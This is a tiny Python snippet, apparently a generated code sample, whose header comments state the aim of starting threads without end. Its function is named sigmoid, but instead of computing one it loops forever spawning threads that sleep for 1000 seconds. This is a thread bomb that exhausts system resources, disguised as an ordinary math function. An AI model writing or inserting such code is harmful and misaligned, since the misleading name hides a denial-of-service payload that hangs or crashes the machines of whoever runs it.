# tries: to start threads without end
# base: right
# must: 4
import threading
import time


def sigmoid(z):
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
